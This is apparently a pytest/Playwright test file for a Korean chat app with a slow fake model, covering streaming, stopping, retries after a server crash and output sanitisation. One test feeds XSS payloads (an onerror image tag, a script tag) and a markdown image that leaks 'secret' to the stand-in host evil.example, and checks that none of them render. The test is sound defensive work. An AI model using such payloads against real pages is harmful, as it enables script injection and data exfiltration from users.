"""The chat over HTTP, with a slow model behind the server: streaming, stopping, failing."""

from __future__ import annotations

import re
import subprocess
import time
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.ui.conftest import NewPage, answered, ask, serve
from tests.ui.slow_model import SlowModel

QUESTION = "제습기 물통이 가득 차면 어떻게 되나요?"


Serving = Callable[[], AbstractContextManager[subprocess.Popen[bytes]]]


@pytest.fixture
def serving(server_port: int, server_environment: dict[str, str], tmp_path: Path) -> Serving:
    """Starts the server that the app asks; each `with` is one life of it."""
    return lambda: serve(tmp_path / "serve.log", server_port, **server_environment)


def test_the_first_words_are_seen_before_the_last_and_what_no_page_proves_is_marked(
    new_page: NewPage,
    remote_app: str,
    serving: Serving,
    model: SlowModel,
) -> None:
    with serving():
        model.words = (
            ["이", "기계는", "달에서", "만들었습니다."] + ["그리고."] * 20 + ["끝났습니다."]
        )
        model.pause = 0.2
        page = new_page(remote_app)
        ask(page, QUESTION)
        expect(page.locator(".mc-draft")).to_contain_text("이 기계는")
        assert "끝났습니다." not in page.locator(".mc-draft").inner_text()
        answered(page)
        expect(page.locator(".answer .unverified").first).to_contain_text("확인되지 않음")


def test_nothing_that_a_model_writes_becomes_html_a_picture_or_a_link(
    new_page: NewPage,
    remote_app: str,
    serving: Serving,
    model: SlowModel,
) -> None:
    with serving():
        model.words = [
            "<img src=x onerror=alert(1)>",
            "<script>document.title='owned'</script>",
            "![그림](http://evil.example/a.png?q=secret)",
            "[누르세요](http://evil.example/)",
            "http://evil.example/bare",
            "끝났습니다.",
        ]
        model.pause = 0.05
        page = new_page(remote_app)
        ask(page, "<b>제습기</b> ![x](http://evil.example/b.png) 물통은?")
        answered(page)
        expect(page.locator(".answer")).to_contain_text("끝났습니다.")
        for drawn in (".answer", "[class*=st-key-asked]"):
            assert page.locator(f"{drawn} :is(a, img, script, b)").count() == 0
        assert page.title() != "owned"
        # `new_page` fails the test when the page asks evil.example for anything.


def test_a_stopped_answer_stops_the_work_and_keeps_what_was_said(
    new_page: NewPage,
    remote_app: str,
    serving: Serving,
    model: SlowModel,
) -> None:
    with serving():
        model.words, model.pause = ["아직입니다."] * 300, 0.1
        model.broken_off.clear()
        page = new_page(remote_app)
        ask(page, QUESTION)
        expect(page.locator(".mc-draft")).to_contain_text("아직")
        page.get_by_role("button", name="멈추기").click()
        expect(page.get_by_text("여기서 멈췄습니다.")).to_be_visible()
        expect(page.locator(".answer")).to_contain_text("아직")
        assert model.broken_off.wait(30)
        model.words, model.pause = ["이제", "끝났습니다."], 0.01
        page.get_by_role("button", name="다시 시도").click()
        expect(page.locator(".answer")).to_contain_text("이제")


def test_a_server_killed_in_the_middle_is_told_and_costs_no_history(
    new_page: NewPage,
    remote_app: str,
    serving: Serving,
    model: SlowModel,
) -> None:
    with serving() as running:
        model.words, model.pause = ["첫", "답입니다."], 0.01
        page = new_page(remote_app)
        ask(page, "첫 질문입니다: E-04는?")
        answered(page)
        model.words, model.pause = ["아직입니다."] * 300, 0.1
        ask(page, QUESTION)
        expect(page.locator(".mc-draft")).to_contain_text("아직")
        running.kill()
        expect(page.get_by_text("답변이 중간에 끊겼습니다")).to_be_visible()
        expect(page.locator(".answer").first).to_contain_text("첫 답입니다.")
        expect(page.get_by_text(QUESTION)).to_be_visible()
    ask(page, "아직 거기 있나요?")
    expect(page.get_by_text(re.compile("연결|오류")).last).to_be_visible()
    with serving():
        model.words, model.pause = ["다시", "왔습니다."], 0.01
        page.get_by_role("button", name="다시 시도").click()
        expect(page.locator(".answer").last).to_contain_text("다시 왔습니다.")
        expect(page.locator(".answer").first).to_contain_text("첫 답입니다.")


def test_a_click_elsewhere_does_not_end_an_answer(
    new_page: NewPage,
    remote_app: str,
    serving: Serving,
    model: SlowModel,
) -> None:
    with serving():
        page = new_page(remote_app)
        model.words, model.pause = ["하나입니다."] + ["둘입니다."] * 30 + ["끝입니다."], 0.1
        ask(page, QUESTION)
        expect(page.locator(".mc-draft")).to_contain_text("하나")
        page.get_by_text("English", exact=True).click()
        answered(page)
        expect(page.locator(".answer")).to_contain_text("끝입니다.")
        assert _count(page, "하나") == 1


def _count(page: Page, word: str) -> int:
    time.sleep(0.5)
    return page.locator(".answer").inner_text().count(word)
